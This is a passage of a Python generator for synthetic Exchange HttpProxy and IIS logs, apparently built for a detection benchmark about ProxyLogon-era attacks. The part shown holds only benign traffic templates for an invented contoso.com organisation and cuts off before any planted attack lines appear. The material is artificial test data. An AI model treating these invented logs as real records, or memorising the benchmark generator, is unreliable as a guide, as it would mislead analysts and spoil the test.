"""SYNTHETIC Exchange traffic for the benchmark corpus: benign line templates and attack lines.

Everything here is made up, shaped after the real formats in shared/reference/log-formats.md and
the public samples listed in shared/datasets/SOURCES.md (a real HttpProxy MAPI line from the
elastic integration tests, Exchange back-end IIS lines from plaso). Names, addresses and GUIDs are
invented (contoso.com, RFC 5737 documentation addresses for the attackers).

A *template* is one log line with two placeholders, filled per written line by the generator:

- ``{T}``: the record time in the format of the log (ISO 8601 with milliseconds for Exchange CSV
  logs, ``YYYY-MM-DD HH:MM:SS`` for IIS); it may occur several times (HttpProxy GenericInfo).
- ``{R}``: a fresh GUID (request id, cafeReqId).

Streams: one per log family and HttpProxy protocol. ``benign(stream, rng)`` gives one benign
template of the stream, drawn from the stream's traffic mix (users, clients, health probes,
load-balancer checks, monitoring, internet noise). ``ATTACKS`` lists the planted attack lines,
each with the stream it belongs to and the rules it was written for.
"""

from __future__ import annotations

import csv
import io
import random
from dataclasses import dataclass

from lekdicht.logs.exchange_csv import HTTPPROXY_FIELDS

DOMAIN = "contoso.com"
NETBIOS = "CONTOSO"
HOST = "EXCH01"
FQDN = f"{HOST}.{DOMAIN}"
PEER = f"EXCH02.{DOMAIN}"
MAIL_HOST = f"mail.{DOMAIN}"
SERVER_IP = "10.0.1.11"
PEER_IP = "10.0.1.12"
LB_IPS = ("10.0.0.2", "10.0.0.3")
BUILD = (15, 1, 2176, 2)
"""Exchange 2016 CU19, the build many servers ran when ProxyLogon was exploited (March 2021)."""
BUILD_HEADER = "15.01.2176.002"
BUILD_TARGET = "15.01.2176.000"

EWS_FIELDS: tuple[str, ...] = tuple(
    [
        "DateTime",
        "RequestId",
        "MajorVersion",
        "MinorVersion",
        "BuildVersion",
        "RevisionVersion",
        "Ring",
        "ClientRequestId",
        "AuthenticationType",
        "IsAuthenticated",
        "AuthenticatedUser",
        "Organization",
        "UserAgent",
        "VersionInfo",
        "ClientIpAddress",
        "ServerHostName",
        "FrontEndServer",
        "SoapAction",
        "HttpStatus",
        "RequestSize",
        "ResponseSize",
        "ErrorCode",
        "ImpersonatedUser",
        "ProxyAsUser",
        "ActAsUser",
        "Cookie",
        "CorrelationGuid",
        "PrimaryOrProxyServer",
        "TaskType",
        "RemoteBackendCount",
        "LocalMailboxCount",
        "RemoteMailboxCount",
        "LocalIdCount",
        "RemoteIdCount",
        "BeginBudgetConnections",
        "EndBudgetConnections",
        "BeginBudgetHangingConnections",
        "EndBudgetHangingConnections",
        "BeginBudgetAD",
        "EndBudgetAD",
        "BeginBudgetCAS",
        "EndBudgetCAS",
        "BeginBudgetRPC",
        "EndBudgetRPC",
        "BeginBudgetFindCount",
        "EndBudgetFindCount",
        "BeginBudgetSubscriptions",
        "EndBudgetSubscriptions",
        "MDBResource",
        "MDBHealth",
        "MDBHistoricalLoad",
        "ThrottlingPolicy",
        "ThrottlingDelay",
        "ThrottlingRequestType",
        "TotalDCRequestCount",
        "TotalDCRequestLatency",
        "TotalMBXRequestCount",
        "TotalMBXRequestLatency",
        "RecipientLookupLatency",
        "ExchangePrincipalLatency",
        "HttpPipelineLatency",
        "CheckAccessCoreLatency",
        "AuthModuleLatency",
        "CallContextInitLatency",
        "PreExecutionLatency",
        "CoreExecutionLatency",
        "TotalRequestTime",
        "DetailedExchangePrincipalLatency",
        "ClientStatistics",
        "GenericInfo",
        "AuthenticationErrors",
        "GenericErrors",
        "Puid",
        "StartTime",
        "ProcessId",
        "TimeInGC",
        "StartTotalMemory",
        "EndTotalMemory",
        "StartGCCounts",
        "EndGCCounts",
        "TokenBasedThrottlingPolicy",
        "BudgetKey",
        "CoinsCharged",
        "CoinsChargedMethod",
        "SidBudgetInfo",
        "AppBudgetInfo",
        "TenantBudgetInfo",
        "ResourceAccessed",
        "ResourceHealthBasedThreshold",
        "ThrottledBy",
        "BackoffHint",
        "WorkClassification",
    ]
)
"""EWS log #Fields, 92 fields (log-formats.md 7.6)."""

ECP_FIELDS = ("TimeStamp", "ServerName", "EventId", "EventData")
IIS_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
    "cs(Referer) sc-status sc-substatus sc-win32-status time-taken"
)

HTTPPROXY_PROTOCOLS: dict[str, float] = {
    "Mapi": 0.33,
    "Eas": 0.16,
    "Ews": 0.14,
    "Owa": 0.12,
    "Autodiscover": 0.08,
    "PowerShell": 0.05,
    "RpcHttp": 0.04,
    "Oab": 0.03,
    "Ecp": 0.03,
    "OwaCalendar": 0.02,
}
"""Share of HttpProxy bytes per protocol folder."""

STREAMS: tuple[str, ...] = (
    *(f"httpproxy/{p}" for p in HTTPPROXY_PROTOCOLS),
    "iis/W3SVC1",
    "iis/W3SVC2",
    "ews",
    "ecp",
)

# ---------------------------------------------------------------------------------------------
# Vocabulary

_FIRST = [
    "jan",
    "anna",
    "pieter",
    "sanne",
    "daan",
    "emma",
    "lars",
    "sophie",
    "thomas",
    "lisa",
    "bram",
    "julia",
    "ruben",
    "eva",
    "sem",
    "lotte",
    "milan",
    "noor",
    "finn",
    "tess",
    "luuk",
    "fleur",
    "jesse",
    "isa",
    "tim",
    "femke",
    "bas",
    "maud",
    "koen",
    "iris",
    "stijn",
    "vera",
    "rick",
    "anouk",
    "joost",
    "lieke",
    "wouter",
    "esther",
    "maarten",
    "ilse",
    "sander",
    "marloes",
    "niels",
    "kim",
    "gijs",
    "roos",
    "hugo",
    "nina",
    "olaf",
    "petra",
]
_LAST = [
    "devries",
    "jansen",
    "bakker",
    "visser",
    "smit",
    "meijer",
    "mulder",
    "bos",
    "vos",
    "peters",
    "hendriks",
    "dekker",
    "vandijk",
    "vanleeuwen",
    "dijkstra",
    "kok",
    "jacobs",
    "vermeulen",
    "vandenberg",
    "brouwer",
    "degraaf",
    "willems",
    "schouten",
    "vanderlinden",
    "hoekstra",
    "koster",
    "prins",
    "huisman",
    "kuipers",
    "post",
    "boer",
    "vandam",
    "blom",
    "maas",
    "verhoeven",
]

_OUTLOOK = (
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5122; Pro)",
    "Microsoft Office/15.0 (Windows NT 6.1; Microsoft Outlook 15.0.5311; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.4266; Pro)",
)
_MAC_OUTLOOK = (
    "MacOutlook/16.46.21021202 (Intelx64 Mac OS X 11.2.1 (Build 20D74))",
    "MacOutlook/16.45.21011103 (Intelx64 Mac OS X 10.15.7 (Build 19H15))",
)
_EAS = (
    ("Apple-iPhone12C1/1804.231", "iPhone"),
    ("Apple-iPhone13C2/1805.64", "iPhone"),
    ("Apple-iPad8C1/1804.231", "iPad"),
    ("Android-Mail/2021.01.10.354021399.release", "Android"),
    ("Android-SAMSUNG-SM-G991B/101.100001", "SAMSUNGSMG991B"),
    ("Outlook-iOS-Android/1.0", "Outlook"),
)
_BROWSERS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/88.0.4324.190 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/89.0.4389.72 Safari/537.36 Edg/89.0.774.45",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:86.0) Gecko/20100101 Firefox/86.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/14.0.3 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
)
_EWS_APPS = (
    "ExchangeServicesClient/15.00.0913.015",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Teams)",
    "SkypeSpaces/1.0a$*+",
    "Veeam Backup for Microsoft Office 365",
)
_SCANNER_UAS = (
    "Mozilla/5.0 zgrab/0.x",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times "
    "per day to identify customers' presences on the Internet. If you would like to be excluded "
    "from our scans, please contact us at scaninfo@paloaltonetworks.com",
    "curl/7.68.0",
)

N_USERS = 1500
N_HEALTH = 8
N_DATABASES = 6


def _hex(rng: random.Random, n: int) -> str:
    return f"{rng.getrandbits(4 * n):0{n}x}"


def guid(rng: random.Random) -> str:
    h = _hex(rng, 32)
    return f"{h[:8]}-{h[8:12]}-{h[12:16]}-{h[16:20]}-{h[20:]}"


@dataclass(frozen=True, slots=True)
class User:
    name: str  # j.devries
    mailbox: str  # mailbox GUID
    sid: int
    ip: str  # office workstation
    home_ip: str  # public address when working from home
    database: int


@dataclass(frozen=True, slots=True)
class Vocab:
    users: tuple[User, ...]
    health: tuple[str, ...]  # HealthMailbox<32 hex>
    databases: tuple[str, ...]
    oab: str
    org_guid: str


def make_vocab(seed: int, n_users: int = N_USERS) -> Vocab:
    rng = random.Random(seed * 7919 + 1)
    users: list[User] = []
    seen: set[str] = set()
    while len(users) < n_users:
        name = f"{rng.choice(_FIRST)[0]}.{rng.choice(_LAST)}"
        if name in seen:
            name = f"{name}{rng.randrange(2, 99)}"
            if name in seen:
                continue
        seen.add(name)
        users.append(
            User(
                name=name,
                mailbox=guid(rng),
                sid=1100 + len(users),
                ip=f"10.20.{rng.randrange(1, 40)}.{rng.randrange(2, 250)}",
                home_ip=f"{rng.choice((77, 83, 84, 86, 145, 188, 212, 217))}.{rng.randrange(1, 255)}."
                f"{rng.randrange(0, 255)}.{rng.randrange(1, 255)}",
                database=rng.randrange(N_DATABASES),
            )
        )
    health = tuple(f"HealthMailbox{_hex(rng, 32)}" for _ in range(N_HEALTH))
    dbs = tuple(guid(rng) for _ in range(N_DATABASES))
    return Vocab(tuple(users), health, dbs, guid(rng), guid(rng))


def _ip(rng: random.Random, first: tuple[int, ...]) -> str:
    return f"{rng.choice(first)}.{rng.randrange(0, 255)}.{rng.randrange(0, 255)}.{rng.randrange(1, 255)}"


def csv_line(values: list[str] | tuple[str, ...]) -> str:
    """One line as Exchange writes it: comma-separated, fields with , or " quoted."""
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow(values)
    return buf.getvalue()


def w3c(value: str) -> str:
    """A W3C field value: spaces written as +, empty as -."""
    return value.replace(" ", "+") if value else "-"


# ---------------------------------------------------------------------------------------------
# HttpProxy

_DOMAIN_SID = "S-1-5-21-3623811015-3361044348-30300820"


def _latencies(rng: random.Random, backend: int) -> dict[str, str]:
    r = rng.randrange
    return {
        "ServerLocatorLatency": str(r(0, 3)),
        "TargetOutstandingRequests": "0",
        "HttpPipelineLatency": str(r(0, 3)),
        "CalculateTargetBackEndLatency": str(r(0, 2)),
        "TotalGlsLatency": "",
        "TotalAccountForestLatency": "0",
        "TotalResourceForestLatency": "0",
        "ADLatency": str(r(0, 2)),
        "TotalSharedCacheLatency": "0",
        "ActivityContextLifeTime": str(backend + r(2, 20)),
        "ModuleToHandlerSwitchingLatency": "0",
        "ClientReqStreamLatency": "0",
        "BackendReqInitLatency": "0",
        "BackendReqStreamLatency": str(r(0, 2)),
        "BackendProcessingLatency": str(backend),
        "BackendRespInitLatency": str(r(0, 2)),
        "BackendRespStreamLatency": "0",
        "ClientRespStreamLatency": str(r(0, 2)),
        "KerberosAuthHeaderLatency": "0",
        "HandlerCompletionLatency": "0",
        "RequestHandlerLatency": str(r(1, 4)),
        "HandlerToModuleSwitchingLatency": "0",
        "ProxyTime": str(backend + r(1, 8)),
        "CoreLatency": str(r(2, 9)),
        "RoutingLatency": str(r(0, 3)),
        "HttpProxyOverhead": str(r(2, 9)),
        "TotalRequestTime": str(backend + r(3, 15)),
        "RouteRefresherLatency": "0",
        "PartitionEndpointLookupLatency": "",
    }


def _generic_info(rng: random.Random, proxied: bool) -> str:
    if not proxied:
        return "BeginRequest={T};CorrelationID=<empty>;ProxyState-Run=None;EndRequest={T};"
    return (
        "BeginRequest={T};CorrelationID=<empty>;ProxyState-Run=None;"
        f"FEAuth=BEVersion-{1942061571 + rng.randrange(0, 3)};"
        "BeginGetRequestStream={T};OnRequestStreamReady={T};BeginGetResponse={T};OnResponseReady={T};"
        "EndGetResponse={T};ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest={T};"
    )


def _httpproxy(rng: random.Random, **fields: str) -> str:
    """One HttpProxy template: unspecified fields get typical values."""
    row = dict.fromkeys(HTTPPROXY_FIELDS, "")
    backend = rng.choice((1, 2, 3, 5, 8, 12, 20, 35, 60, 140))
    row.update(_latencies(rng, backend))
    row.update(
        DateTime="{T}",
        RequestId="{R}",
        MajorVersion=str(BUILD[0]),
        MinorVersion=str(BUILD[1]),
        BuildVersion=str(BUILD[2]),
        RevisionVersion=str(BUILD[3]),
        UrlHost=MAIL_HOST,
        IsAuthenticated="true",
        ServerHostName=HOST,
        HttpStatus="200",
        BackEndStatus="200",
        Method="POST",
        ProxyAction="Proxy",
        TargetServer=rng.choice((FQDN, PEER)),
        TargetServerVersion=BUILD_TARGET,
        RequestBytes=str(rng.randrange(0, 4000)),
        ResponseBytes=str(rng.randrange(100, 60000)),
        GenericInfo=_generic_info(rng, True),
        RoutingStatus="CafeV1",
    )
    row.update(fields)
    if row["HttpStatus"] != "200" and "BackEndStatus" not in fields:
        row["BackEndStatus"] = row["HttpStatus"] if row["ProxyAction"] == "Proxy" else ""
    return csv_line([row[f] for f in HTTPPROXY_FIELDS])


def _db_cookie(v: Vocab, u: User) -> str:
    return f"Database~{v.databases[u.database]}~~2021-04-0{1 + u.database % 5}T0{u.database}:13:47"


def _mailbox_routing(v: Vocab, u: User) -> dict[str, str]:
    return {
        "RoutingType": "DatabaseGuid",
        "RoutingHint": "MailboxGuidWithDomain-MailboxGuid",
        "BackEndCookie": _db_cookie(v, u),
        "DatabaseGuid": v.databases[u.database],
        "UserADObjectGuid": u.mailbox,
    }


def _client_ip(rng: random.Random, u: User) -> str:
    return u.ip if rng.random() < 0.7 else u.home_ip


def _health_user(rng: random.Random, v: Vocab) -> str:
    return rng.choice(v.health)


def hp_mapi(rng: random.Random, v: Vocab) -> str:
    if rng.random() < 0.03:  # MAPI health probe of the local server
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="Mapi",
            UrlStem="/mapi/emsmdb/",
            ProtocolAction=rng.choice(("Connect", "Execute", "Disconnect")),
            AuthenticationType="Negotiate",
            AuthenticatedUser=f"{NETBIOS}\\{hm}",
            AnchorMailbox=f"MailboxGuidWithDomain~{hm[13:21]}-{hm[21:25]}-{hm[25:29]}-{hm[29:33]}-0000@{DOMAIN}",
            UserAgent="MapiHttpClient",
            ClientIpAddress=SERVER_IP,
            UrlQuery="?useMailboxOfAuthenticatedUser=true",
        )
    u = rng.choice(v.users)
    nspi = rng.random() < 0.12
    return _httpproxy(
        rng,
        ClientRequestId=f"{{{guid(rng).upper()}}}:{rng.randrange(100, 999999)}",
        Protocol="Mapi",
        UrlStem="/mapi/nspi/" if nspi else "/mapi/emsmdb/",
        ProtocolAction=rng.choice(("Bind", "QueryRows", "GetMatches", "Unbind"))
        if nspi
        else rng.choice(("Execute", "Execute", "Execute", "NotificationWait", "Connect", "Disconnect")),
        AuthenticationType="Negotiate",
        AuthenticatedUser=f"{NETBIOS}\\{u.name}",
        Organization=DOMAIN,
        AnchorMailbox=f"MailboxGuid~{u.mailbox}",
        UserAgent=rng.choice(_OUTLOOK),
        ClientIpAddress=_client_ip(rng, u),
        UrlQuery=f"?MailboxId={u.mailbox}@{DOMAIN}",
        **_mailbox_routing(v, u),
    )


def hp_eas(rng: random.Random, v: Vocab) -> str:
    if rng.random() < 0.02:
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="Eas",
            UrlStem="/Microsoft-Server-ActiveSync/default.eas",
            ProtocolAction="FolderSync",
            AuthenticationType="Basic",
            AuthenticatedUser=f"{hm}@{DOMAIN}",
            AnchorMailbox=f"Smtp~{hm}@{DOMAIN}",
            UserAgent="TestActiveSyncConnectivity",
            ClientIpAddress=SERVER_IP,
            UrlQuery=f"?Cmd=FolderSync&User={hm}&DeviceId=TestActiveSyncConnectivity&DeviceType=TestActiveSyncConnectivity",
        )
    u = rng.choice(v.users)
    ua, dtype = rng.choice(_EAS)
    cmd = rng.choice(("Ping", "Ping", "Ping", "Sync", "Sync", "FolderSync", "ItemOperations", "SendMail"))
    device = f"{dtype[:4].upper()}{_hex(rng, 20).upper()}"
    ping = cmd == "Ping"
    return _httpproxy(
        rng,
        Protocol="Eas",
        UrlStem="/Microsoft-Server-ActiveSync/default.eas",
        ProtocolAction=cmd,
        AuthenticationType="Basic",
        AuthenticatedUser=f"{u.name}@{DOMAIN}",
        AnchorMailbox=f"Smtp~{u.name}@{DOMAIN}",
        UserAgent=ua,
        ClientIpAddress=u.home_ip,
        UrlQuery=f"?Cmd={cmd}&User={u.name}&DeviceId={device}&DeviceType={dtype}",
        BackEndGenericInfo="" if not ping else f"PingHeartbeat={rng.choice((470, 900, 1680))}",
        **_mailbox_routing(v, u),
    )


def hp_ews(rng: random.Random, v: Vocab) -> str:
    if rng.random() < 0.04:
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="Ews",
            UrlStem="/EWS/Exchange.asmx",
            ProtocolAction="GetFolder",
            AuthenticationType="Negotiate",
            AuthenticatedUser=f"{NETBIOS}\\{hm}",
            AnchorMailbox=f"Smtp~{hm}@{DOMAIN}",
            UserAgent=f"Ews_Probe/Local (ExchangeServicesClient/{BUILD_HEADER})",
            ClientIpAddress=SERVER_IP,
        )
    u = rng.choice(v.users)
    ua = rng.choice(_EWS_APPS + _MAC_OUTLOOK)
    return _httpproxy(
        rng,
        Protocol="Ews",
        UrlStem="/EWS/Exchange.asmx",
        ProtocolAction=rng.choice(
            (
                "GetItem",
                "FindItem",
                "SyncFolderItems",
                "GetUserAvailability",
                "GetFolder",
                "GetStreamingEvents",
            )
        ),
        AuthenticationType=rng.choice(("Negotiate", "NTLM", "Basic", "OAuth")),
        AuthenticatedUser=f"{u.name}@{DOMAIN}",
        AnchorMailbox=f"Smtp~{u.name}@{DOMAIN}" if rng.random() < 0.6 else f"Sid~{_DOMAIN_SID}-{u.sid}",
        UserAgent=ua,
        ClientIpAddress=_client_ip(rng, u),
        **_mailbox_routing(v, u),
    )


def hp_owa(rng: random.Random, v: Vocab) -> str:
    x = rng.random()
    if x < 0.03:
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="Owa",
            UrlStem="/owa/",
            Method="GET",
            AuthenticationType="Forms",
            AuthenticatedUser=f"{hm}@{DOMAIN}",
            AnchorMailbox=f"Smtp~{hm}@{DOMAIN}",
            UserAgent="AMProbe/Local/ClientAccess",
            ClientIpAddress=SERVER_IP,
        )
    if x < 0.10:  # the logon page, served by the front end itself
        return _httpproxy(
            rng,
            Protocol="Owa",
            UrlStem="/owa/auth/logon.aspx",
            Method="GET",
            IsAuthenticated="false",
            ProxyAction="",
            TargetServer="",
            TargetServerVersion="",
            UserAgent=rng.choice(_BROWSERS),
            ClientIpAddress=rng.choice(v.users).home_ip,
            UrlQuery="?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0",
            GenericInfo=_generic_info(rng, False),
        )
    u = rng.choice(v.users)
    stem, action = rng.choice(
        (
            ("/owa/service.svc", "GetItem"),
            ("/owa/service.svc", "FindItem"),
            ("/owa/service.svc", "FindConversation"),
            ("/owa/service.svc", "GetAccessTokenforResource"),
            ("/owa/ev.owa2", "PendingRequest"),
            ("/owa/sessiondata.ashx", "SessionData"),
            ("/owa/", ""),
        )
    )
    return _httpproxy(
        rng,
        Protocol="Owa",
        UrlStem=stem,
        ProtocolAction=action,
        Method="GET" if stem == "/owa/" else "POST",
        AuthenticationType="Forms",
        AuthenticatedUser=f"{u.name}@{DOMAIN}",
        AnchorMailbox=f"Smtp~{u.name}@{DOMAIN}",
        UserAgent=rng.choice(_BROWSERS),
        ClientIpAddress=_client_ip(rng, u),
        UrlQuery=f"?action={action}&app=Mail&n={rng.randrange(1, 300)}" if action and stem != "/owa/" else "",
        **_mailbox_routing(v, u),
    )


def hp_autodiscover(rng: random.Random, v: Vocab) -> str:
    if rng.random() < 0.05:
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="Autodiscover",
            UrlStem="/autodiscover/autodiscover.xml",
            AuthenticationType="Negotiate",
            AuthenticatedUser=f"{NETBIOS}\\{hm}",
            AnchorMailbox=f"Smtp~{hm}@{DOMAIN}",
            UserAgent="AMProbe/Local/ClientAccess",
            ClientIpAddress=SERVER_IP,
        )
    u = rng.choice(v.users)
    if rng.random() < 0.25:  # modern clients: autodiscover.json
        proto = rng.choice(("Mapihttp", "ActiveSync", "Ews", "Rest"))
        return _httpproxy(
            rng,
            Protocol="Autodiscover",
            UrlStem=f"/autodiscover/autodiscover.json/v1.0/{u.name}@{DOMAIN}",
            Method="GET",
            AuthenticationType="",
            IsAuthenticated="false",
            AnchorMailbox=f"Smtp~{u.name}@{DOMAIN}",
            UserAgent=rng.choice(
                (
                    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)",
                    "Outlook-iOS-Android/1.0",
                )
            ),
            ClientIpAddress=u.home_ip,
            UrlQuery=f"?Protocol={proto}&RedirectCount=1",
        )
    return _httpproxy(
        rng,
        Protocol="Autodiscover",
        UrlStem="/autodiscover/autodiscover.xml" if rng.random() < 0.8 else "/Autodiscover/Autodiscover.xml",
        AuthenticationType=rng.choice(("Negotiate", "Basic", "NTLM")),
        AuthenticatedUser=f"{NETBIOS}\\{u.name}",
        AnchorMailbox=f"Smtp~{u.name}@{DOMAIN}",
        UserAgent=rng.choice(_OUTLOOK + _MAC_OUTLOOK + ("AppleExchangeWebServices/818.120.2 accountsd/113",)),
        ClientIpAddress=_client_ip(rng, u),
        **_mailbox_routing(v, u),
    )


def hp_powershell(rng: random.Random, v: Vocab) -> str:
    if rng.random() < 0.85:  # Managed Availability remote PowerShell probes (ActiveMonitor)
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="PowerShell",
            UrlHost=FQDN.lower(),
            UrlStem="/powershell",
            ProtocolAction=rng.choice(("New-PSSession:Receive", "New-PSSession:Command", "Remove-PSSession")),
            AuthenticationType="Kerberos",
            AuthenticatedUser=f"{NETBIOS}\\{hm}",
            AnchorMailbox="ServerVersion~Version 15.1 (Build 2176.2)",
            UserAgent="Microsoft WinRM Client",
            ClientIpAddress=SERVER_IP,
            TargetServer=FQDN,
            UrlQuery="?clientApplication=ActiveMonitor;PSVersion=5.1.14393.4225"
            f"&sessionID=Version_15.1_(Build_2176.2)={_hex(rng, 40)}",
        )
    admin = rng.choice(("adm.jansen", "adm.bakker", "svc-backup"))
    return _httpproxy(
        rng,
        Protocol="PowerShell",
        UrlHost=FQDN.lower(),
        UrlStem="/powershell",
        ProtocolAction="New-PSSession:Command",
        AuthenticationType="Kerberos",
        AuthenticatedUser=f"{NETBIOS}\\{admin}",
        AnchorMailbox="ServerVersion~Version 15.1 (Build 2176.2)",
        UserAgent="Microsoft WinRM Client",
        ClientIpAddress=f"10.0.5.{rng.randrange(20, 30)}",
        UrlQuery="?serializationLevel=Full;ExchClientVer=15.1.2176.2;clientApplication=ManagementShell;"
        "TargetServer=;PSVersion=5.1.17763.1490",
    )


def hp_rpchttp(rng: random.Random, v: Vocab) -> str:
    u = rng.choice(v.users)
    method = rng.choice(("RPC_IN_DATA", "RPC_OUT_DATA"))
    return _httpproxy(
        rng,
        Protocol="RpcHttp",
        UrlStem="/rpc/rpcproxy.dll",
        ProtocolAction=method,
        Method=method,
        AuthenticationType=rng.choice(("Ntlm", "Negotiate")),
        AuthenticatedUser=f"{NETBIOS}\\{u.name}",
        AnchorMailbox=f"MailboxGuid~{u.mailbox}",
        UserAgent="MSRPC",
        ClientIpAddress=_client_ip(rng, u),
        UrlQuery=f"?{u.mailbox}@{DOMAIN}:6001",
        **_mailbox_routing(v, u),
    )


def hp_oab(rng: random.Random, v: Vocab) -> str:
    u = rng.choice(v.users)
    stem = rng.choice(("oab.xml", "oab.xml", f"{guid(rng)}-data-{rng.randrange(1, 400)}.lzx"))
    return _httpproxy(
        rng,
        Protocol="Oab",
        UrlStem=f"/OAB/{v.oab}/{stem}",
        Method="GET",
        AuthenticationType="Negotiate",
        AuthenticatedUser=f"{NETBIOS}\\{u.name}",
        AnchorMailbox=f"OrganizationMailbox~{v.org_guid}",
        UserAgent=rng.choice(_OUTLOOK),
        ClientIpAddress=_client_ip(rng, u),
        HttpStatus=rng.choice(("200", "200", "304")),
        RoutingType="OrganizationMailbox",
        RoutingHint="OrganizationMailbox",
    )


def hp_ecp(rng: random.Random, v: Vocab) -> str:
    if rng.random() < 0.2:
        hm = _health_user(rng, v)
        return _httpproxy(
            rng,
            Protocol="Ecp",
            UrlStem="/ecp/",
            Method="GET",
            AuthenticationType="Negotiate",
            AuthenticatedUser=f"{NETBIOS}\\{hm}",
            AnchorMailbox=f"Smtp~{hm}@{DOMAIN}",
            UserAgent="AMProbe/Local/ClientAccess",
            ClientIpAddress=SERVER_IP,
        )
    u = rng.choice(v.users)
    stem, query = rng.choice(
        (
            ("/ecp/RulesEditor/InboxRules.svc/GetList", f"?msExchEcpCanary={_hex(rng, 40)}"),
            ("/ecp/PersonalSettings/Accounts.svc/GetObject", f"?msExchEcpCanary={_hex(rng, 40)}"),
            ("/ecp/Organize/DeliveryReports.slab", "?showhelp=false"),
            ("/ecp/DDI/DDIService.svc/GetList", f"?schema=Mailboxes&msExchEcpCanary={_hex(rng, 40)}"),
            ("/ecp/", "?ExchClientVer=15"),
        )
    )
    return _httpproxy(
        rng,
        Protocol="Ecp",
        UrlStem=stem,
        Method="GET" if stem == "/ecp/" else "POST",
        AuthenticationType="Forms",
        AuthenticatedUser=f"{u.name}@{DOMAIN}",
        AnchorMailbox=f"Smtp~{u.name}@{DOMAIN}",
        UserAgent=rng.choice(_BROWSERS),
        ClientIpAddress=_client_ip(rng, u),
        UrlQuery=query,
        BackEndCookie=f"Server~{PEER}~{1942061571 + u.database}~2021-03-0{1 + u.database}T10:22:04"
        if rng.random() < 0.5
        else _db_cookie(v, u),
    )


def hp_owacalendar(rng: random.Random, v: Vocab) -> str:
    u = rng.choice(v.users)
    return _httpproxy(
        rng,
        Protocol="OwaCalendar",
        UrlStem=f"/owa/calendar/{u.mailbox}@{DOMAIN}/{_hex(rng, 32)}{rng.randrange(10**15, 10**16)}"
        "/calendar.ics",
        Method="GET",
        AuthenticationType="",
        IsAuthenticated="false",
        AnchorMailbox=f"MailboxGuid~{u.mailbox}",
        UserAgent=rng.choice(
            ("Google-Calendar-Importer", "Microsoft Outlook 16.0", "iOS/14.4 (18D52) dataaccessd/1.0")
        ),
        ClientIpAddress=_ip(rng, (66, 74, 209)),
    )


# ---------------------------------------------------------------------------------------------
# IIS W3C, front end (Default Web Site, W3SVC1, port 443) and back end (Exchange Back End, W3SVC2, 444)


def _iis(
    method: str,
    stem: str,
    query: str,
    port: int,
    user: str,
    cip: str,
    ua: str,
    status: int,
    *,
    sip: str = SERVER_IP,
    referer: str = "",
    sub: int = 0,
    win32: int = 0,
    taken: int = 15,
) -> str:
    return (
        f"{{T}} {sip} {method} {stem} {w3c(query)} {port} {w3c(user)} {cip} {w3c(ua)} {w3c(referer)} "
        f"{status} {sub} {win32} {taken}"
    )


def _cafe(query: str = "", enc: bool = False) -> str:
    """The query string as the front end logs proxied requests: the client's query, then the
    CorrelationID and cafeReqId it adds."""
    tail = "&CorrelationID=<empty>;&cafeReqId={R};" + ("&encoding=;" if enc else "")
    return f"{query}{tail}" if query else tail


def _iis_client(rng: random.Random, v: Vocab, port: int) -> str:
    """A user request as seen by IIS on the front end (port 443) or the back end (444)."""
    u = rng.choice(v.users)
    cip = _client_ip(rng, u) if port == 443 else rng.choice((SERVER_IP, PEER_IP))
    dom_user = f"{NETBIOS}\\{u.name}"
    taken = rng.choice((0, 2, 4, 7, 15, 31, 46, 62, 109, 250, 1203))
    x = rng.random()
    challenge = port == 443 and rng.random() < 0.18  # the 401 leg of NTLM/Negotiate
    user = "" if challenge else dom_user
    status, sub, win32 = (401, 1, 2148074254) if challenge else (200, 0, 0)
    if x < 0.36:
        stem = rng.choice(("/mapi/emsmdb/", "/mapi/emsmdb/", "/mapi/emsmdb/", "/mapi/nspi/"))
        return _iis(
            "POST",
            stem,
            _cafe(f"mailboxId={u.mailbox}@{DOMAIN}", True),
            port,
            user,
            cip,
            rng.choice(_OUTLOOK),
            status,
            sub=sub,
            win32=win32,
            taken=taken,
        )
    if x < 0.52:
        ua, dtype = rng.choice(_EAS)
        cmd = rng.choice(("Ping", "Ping", "Sync", "FolderSync", "ItemOperations"))
        dev = f"{dtype[:4].upper()}{_hex(rng, 20).upper()}"
        stem = (
            "/Microsoft-Server-ActiveSync/default.eas"
            if port == 443
            else "/Microsoft-Server-ActiveSync/Proxy/default.eas"
        )
        taken = rng.choice((480000, 900000, 1680000)) if cmd == "Ping" else taken
        return _iis(
            "POST",
            stem,
            _cafe(f"Cmd={cmd}&User={u.name}&DeviceId={dev}&DeviceType={dtype}"),
            port,
            f"{u.name}@{DOMAIN}",
            u.home_ip if port == 443 else cip,
            ua,
            200,
            taken=taken,
        )
    if x < 0.66:
        return _iis(
            "POST",
            "/EWS/Exchange.asmx",
            _cafe(),
            port,
            user,
            cip,
